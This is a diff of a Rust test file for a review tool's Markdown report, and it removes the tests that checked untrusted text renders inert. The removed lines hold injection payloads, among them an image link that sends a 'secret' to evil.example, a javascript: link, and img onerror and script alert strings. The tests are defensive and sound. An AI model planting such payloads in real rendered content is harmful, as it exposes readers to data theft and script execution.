@@ -1,12 +1,7 @@
 //! The report of a review, as a viewer of Markdown sees it.
 
-use proptest::prelude::*;
-use pulldown_cmark::{Event, Options, Parser, Tag};
-
-use crate::report::example::{evil_text, is_inert};
 use crate::report::page::ToPage as _;
 use crate::report::review::example;
-use crate::text::sanitize;
 
 #[test]
 fn every_ending() {
@@ -66,89 +61,4 @@ fn scores_show_every_component_and_rounds_their_confidence() {
     let rounds = rows(&text, "## Confidence per round");
     assert_eq!(rounds[2], ["independent reviews", "0%", "0 of 4", "2 of 2"]);
     assert_eq!(rounds[3], ["cross-examination 1", "83%", "3 of 4", "2 of 2"]);
-}
-
-/// The report's skeleton: what stands in it besides words, paragraphs and code.
-/// `Err` names an event that no text may bring.
-fn skeleton(markdown: &str) -> Result<Vec<String>, String> {
-    let mut tags = Vec::new();
-    for event in Parser::new_ext(markdown, Options::all()) {
-        #[expect(
-            clippy::wildcard_enum_match_arm,
-            reason = "an allow-list: every other event fails"
-        )]
-        match event {
-            Event::Start(
-                tag @ (Tag::Heading { .. }
-                | Tag::Table(_)
-                | Tag::TableHead
-                | Tag::TableRow
-                | Tag::TableCell
-                | Tag::List(_)
-                | Tag::Item
-                | Tag::Strong
-                | Tag::CodeBlock(_)
-                | Tag::BlockQuote(_)),
-            ) => tags.push(format!("{tag:?}")),
-            Event::Start(Tag::Paragraph)
-            | Event::Text(_)
-            | Event::Code(_)
-            | Event::SoftBreak
-            | Event::End(_) => {}
-            other => return Err(format!("{other:?}")),
-        }
-    }
-    Ok(tags)
-}
-
-fn assert_inert(evil: &str) -> Result<(), TestCaseError> {
-    let markdown = example::poisoned(evil).markdown();
-    prop_assert!(is_inert(&markdown), "{:?}", markdown);
-    // A fix of several lines is a code block, and text without a letter no quotation and no fix:
-    // the shapes of the report itself.
-    let shape = match evil.trim() {
-        fix if fix.contains('\n') => "x\nx",
-        "" => " ",
-        _ => "x",
-    };
-    let expected = skeleton(&example::poisoned(shape).markdown()).map_err(TestCaseError::fail)?;
-    let found = skeleton(&markdown)
-        .map_err(|event| TestCaseError::fail(format!("{event} in\n{markdown}")))?;
-    let empty = sanitize::terminal(evil).trim().is_empty();
-    let without_quotes = |tags: Vec<String>| -> Vec<String> {
-        let kept = tags.into_iter();
-        kept.filter(|tag| !(empty && tag.starts_with("BlockQuote"))).collect()
-    };
-    prop_assert_eq!(without_quotes(found), without_quotes(expected), "{}", markdown);
-    Ok(())
-}
-
-#[test]
-fn known_attacks_come_out_as_text() {
-    for evil in [
-        "![x](https://evil.example/?q=secret)",
-        "[click][1]\n\n[1]: javascript:alert(1)",
-        "<img src=x onerror=alert(1)><script>alert(1)</script>",
-        "<https://evil.example>",
-        "```\n# heading\n```",
-        "````\n~~~~\n![x](http://e)\n````",
-        "Title\n===\nOther\n---",
-        "a | b\n--|--\n1 | 2",
-        "- item\n1. item\n> quote",
-        "[^1]\n\n[^1]: note",
-        "$x$ ~~y~~ **z** _w_",
-        "    code\n\ttab",
-        "| x | y |\r\n|---|---|",
-        "&lt;img&gt; &#60;b&#62;",
-        "</details></summary>",
-    ] {
-        assert_inert(evil).unwrap();
-    }
-}
-
-proptest! {
-    #[test]
-    fn nothing_but_words_and_code_comes_of_the_text_of_others(evil in evil_text()) {
-        assert_inert(&evil)?;
-    }
 }
